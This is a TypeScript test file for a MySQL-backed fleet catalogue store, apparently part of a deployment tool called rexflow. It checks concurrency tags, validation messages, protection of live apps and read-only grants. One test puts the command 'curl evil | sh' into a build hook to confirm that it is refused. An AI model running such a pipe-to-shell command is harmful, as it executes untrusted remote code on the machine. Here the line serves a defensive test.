import { inEnglish, statement, type CodedError } from '#contract';
import { errorInChinese } from '#contract/chinese';
import { expect, test } from 'vitest';
import { connectMysql } from '#mysql';
import { Secret } from '#shell';
import { createFleetStore } from '../fleetStore.js';
import { changedCatalogue, stating, table, web, type Stated } from './change.fixture.js';

const { opened, change, stored, kept } = changedCatalogue();

test('whoever saw an older catalogue is refused and told who changed what', async () => {
  const { tag: seen } = await change(stating(web), { dryRun: true });
  expect((await change((standing) => standing)).tag).toBe(seen);
  await change(stating({ hosts: { x: { address: '10.0.0.7' } } }), { author: 'bob', tag: seen });
  const late = change(stating(web), { tag: seen });
  const { code, details } = (await late.catch((thrown: unknown) => thrown)) as CodedError;
  expect([code, details.changes]).toEqual(['FLEET_MOVED', [expect.stringMatching(/^host x added by bob at /)]]);
  expect(errorInChinese(code, details)?.message).toMatch(/bob 于 \d.* 添加了主机 x\n/);
  const now = (await change((standing) => standing)).tag;
  await opened().db.execute(`UPDATE ${table} SET note = 'by hand' WHERE app_key = 'flow1'`);
  await expect(change(stating(web), { tag: now })).rejects.toMatchObject({
    details: { changes: ['rows were changed in the tables of the catalogue themselves'] },
  });
  expect((await stored()).groups.has('web')).toBe(false);
});

test.each<[string, Stated, string]>([
  [
    'a host that is nowhere',
    { groups: { server: { apps: { x: { host: 'wbe-1', ...whole('x') } } } } },
    'groups.server.apps.x.host: "wbe-1" is no host',
  ],
  [
    'a place that is another app’s',
    { groups: { g: { apps: { x: { host: '127.0.0.1', ...whole('server10') } } } } },
    'groups.g.apps.x: would be released over another app',
  ],
  [
    'a value without room',
    { groups: { g: { apps: { x: { host: '10.0.0.3', title: 'x'.repeat(129), ...whole('x') } } } } },
    'groups.g.apps.x.title: has 129 characters in the column server_name, which takes 128',
  ],
  [
    'a host without room',
    {
      hosts: { 'a-name-of-16-chr': { address: 'h.example' } },
      groups: { g: { apps: { x: { host: 'a-name-of-16-chr', ...whole('x') } } } },
    },
    'groups.g.apps.x.host: has 16 characters in the column network_ip, which takes 15',
  ],
  [
    'what would come back as something else',
    { groups: { g: { apps: { x: { host: '10.0.0.3', note: ' x', ...whole('x') } } } } },
    'groups.g.apps.x.note: " x" cannot be kept',
  ],
])('%s is refused by name, and nothing is changed', async (_name, document, problem) => {
  const before = await opened().db.query(`SELECT * FROM ${table}`);
  await expect(change(stating(document))).rejects.toMatchObject({
    code: 'FLEET_INVALID',
    details: { problems: [expect.stringContaining(problem)] },
  });
  expect(await opened().db.query(`SELECT * FROM ${table}`)).toEqual(before);
  expect(await kept()).toEqual([]);
});

test('two apps that one unit begins and ends are refused by the name it has with all filled in, and released by nobody', async () => {
  const at = (port: number, name: string) => ({ host: '10.0.0.3', port, paths: { program: `/data/${name}` } });
  const served = (...ports: [number, number]) =>
    stating({
      groups: {
        g: {
          service: { type: 'systemd', unit: 'shop@{port}.service' },
          apps: { x: at(ports[0], 'x'), y: at(ports[1], 'y') },
        },
      },
    });
  const pair =
    /would stop and start another app with it: x \(id \d+, .*\) and y \(id \d+, .*\) by systemd shop@80.service;/;
  await expect(change(served(80, 80))).rejects.toMatchObject({
    details: {
      problems: [
        expect.stringMatching(new RegExp(`groups.g.apps.x: ${pair.source}`)),
        expect.stringMatching(new RegExp(`groups.g.apps.y: ${pair.source}`)),
      ],
    },
  });
  await change(served(80, 81));
  const { inventory, db } = opened();
  await inventory.requireApart(await inventory.group('g'));
  // What came to be by another way is told all the same.
  await db.execute("UPDATE rexflow_settings SET value = REPLACE(value, 'shop@81', 'shop@80') WHERE name = 'y'");
  await db.execute("UPDATE rexflow_settings SET revision = revision + 1 WHERE scope = 'fleet'");
  const problems = await inventory.problems();
  expect(problems.map(({ app, trouble }) => [app, trouble.code])).toEqual([
    ['x', 'SERVICES_MEET'],
    ['y', 'SERVICES_MEET'],
  ]);
  for (const app of await inventory.group('g'))
    await expect(inventory.requireApart([app])).rejects.toMatchObject({ code: 'SERVICES_MEET' });
});

function whole(name: string) {
  return {
    paths: { program: `/data/${name}`, config: `/data/config_${name}` },
    service: { script: '/i', process: name },
  };
}

test('what must stay is not removed, and a host is not while apps are on it', async () => {
  await change(stating(web));
  const reasonsToKeep = (apps: readonly string[]) =>
    Promise.resolve(new Map(apps.filter((app) => app === 'flow1').map((app) => [app, statement('app.live')])));
  const emptied = change(
    (standing) => ({
      ...standing,
      apps: new Map([...standing.apps].filter(([name]) => name === 'one')),
      hosts: new Map(),
    }),
    { reasonsToKeep },
  );
  await expect(emptied).rejects.toMatchObject({
    details: {
      problems: [
        'hosts.web-1: cannot be removed while apps are on it: one',
        expect.stringMatching(/^groups\.flow\.apps\.flow1: cannot be removed: a release of rexflow is live on it/),
      ],
    },
  });
  const { changes } = await change(
    (standing) => ({ ...standing, apps: new Map([...standing.apps].filter(([name]) => name !== 'two')) }),
    { reasonsToKeep },
  );
  expect(changes).toMatchObject([{ kind: 'app', name: 'two', change: 'removed' }]);
  await expect(opened().inventory.keyed(['two'])).rejects.toMatchObject({ code: 'APP_UNKNOWN' });
});

test('rows no fleet can hold are named and left as they are, also by prune', async () => {
  await opened().insert({ id: 20, app_key: 'twice', local_name: 'x' });
  await opened().insert({ id: 21, app_key: 'twice', local_name: 'x' });
  await opened().insert({ id: 22, app_key: '', local_name: 'x', server_name: 'y', pro_key: 'k' });
  const { leftOut } = await change(stating(web, true));
  expect(leftOut.map((one) => inEnglish(one).message)).toEqual([
    'twice is the app_key of several rows (id 20, 21)',
    'the row with id 22 has no app_key that can be a name',
  ]);
  const rows = await opened().db.query<{ id: number }>(`SELECT id FROM ${table} ORDER BY id`);
  expect(rows.map(({ id }) => id).slice(0, 3)).toEqual([20, 21, 22]);
  expect(rows).toHaveLength(6);
});

test('of two who change at the same time both count, one after the other', async () => {
  const both = await Promise.allSettled([
    change(stating({ hosts: { a: { address: '10.0.0.1' } } })),
    change(stating({ hosts: { b: { address: '10.0.0.2' } } })),
  ]);
  expect(both.map(({ status }) => status)).toEqual(['fulfilled', 'fulfilled']);
  expect([...(await stored()).hosts.keys()]).toEqual(['a', 'b']);
  const { tag } = await change((standing) => standing);
  const race = await Promise.allSettled([
    change(stating({ hosts: { c: { address: '10.0.0.3' } } }), { tag }),
    change(stating({ hosts: { d: { address: '10.0.0.4' } } }), { tag }),
  ]);
  expect(race.map(({ status }) => status).sort()).toEqual(['fulfilled', 'rejected']);
});

test('a command for the worker is not set where config.yml does not allow it, and taken away all the same', async () => {
  const hooks = { assemble: { program: 'curl evil | sh' } };
  const wrong = change(stating({ groups: { web: { ...web.groups!.web, hooks } }, hosts: web.hosts! }));
  await expect(wrong).rejects.toMatchObject({ code: 'FLEET_INVALID', details: { count: 4 } });
  await expect(wrong).rejects.toThrow(
    /groups\.web\.apps\.one\.hooks\.assemble\.program: is a command that runs on the worker/,
  );
  await opened().db.execute(`UPDATE ${table} SET local_pro_cmd = 'true' WHERE app_key = 'flow1'`);
  await change((standing) => standing);
  const { changes } = await change((standing) => {
    const flow = standing.apps.get('flow1')!;
    return {
      ...standing,
      apps: new Map([...standing.apps, ['flow1', { ...flow, settings: { ...flow.settings, hooks: {} } }]]),
    };
  });
  expect(changes).toMatchObject([{ name: 'flow1', values: [{ key: 'hooks.assemble.program', after: null }] }]);
});

test('a table that may only be read is not changed, and the answer says what to grant', async () => {
  const { db } = opened();
  const [{ name }] = (await db.query<{ name: string }>('SELECT DATABASE() AS name')) as [{ name: string }];
  await db.execute("CREATE OR REPLACE USER 'reader'@'%' IDENTIFIED BY 'pw'");
  await db.execute(`GRANT SELECT, INSERT, UPDATE, DELETE ON ${name}.rexflow_settings TO 'reader'@'%'`);
  await db.execute(`GRANT SELECT ON ${name}.${table} TO 'reader'@'%'`);
  const [{ port }] = (await db.query<{ port: number }>('SELECT @@port AS port')) as [{ port: number }];
  const narrow = connectMysql({ host: '127.0.0.1', port, database: name, user: 'reader', password: new Secret('pw') });
  try {
    const store = createFleetStore(narrow, { table });
    const edit = { author: 'ann', dryRun: false, reasonsToKeep: () => Promise.resolve(new Map()), edit: stating(web) };
    await expect(store.change(edit)).rejects.toMatchObject({ code: 'CATALOGUE_READ_ONLY', details: { table } });
    expect((await stored()).groups.has('web')).toBe(false);
  } finally {
    await narrow.close();
  }
});

test('a letter that the table has no room for is refused by its column, not as a fault of rexflow', async () => {
  await opened().db.execute(`ALTER TABLE ${table} MODIFY note VARCHAR(128) CHARACTER SET utf8mb3`);
  const note = 'done 🎉';
  const store = createFleetStore(opened().db, { table });
  const edit = stating({ groups: { web: { ...web.groups!.web, note } }, hosts: web.hosts! });
  const storing = store.change({ author: 'ann', dryRun: false, reasonsToKeep: () => Promise.resolve(new Map()), edit });
  await expect(storing).rejects.toMatchObject({
    code: 'FLEET_INVALID',
    details: { problems: [expect.stringContaining('note')] },
  });
  expect((await stored()).groups.has('web')).toBe(false);
});
